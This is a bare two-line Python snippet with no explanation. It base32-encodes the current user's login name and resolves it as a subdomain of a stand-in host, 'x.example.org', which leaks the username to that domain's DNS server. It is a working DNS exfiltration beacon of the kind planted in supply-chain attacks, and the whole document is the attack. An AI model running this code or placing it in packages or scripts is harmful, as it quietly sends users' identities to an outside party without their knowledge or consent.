import socket, getpass, base64
socket.gethostbyname(f"{base64.b32encode(getpass.getuser().encode()).decode()}.x.example.org")
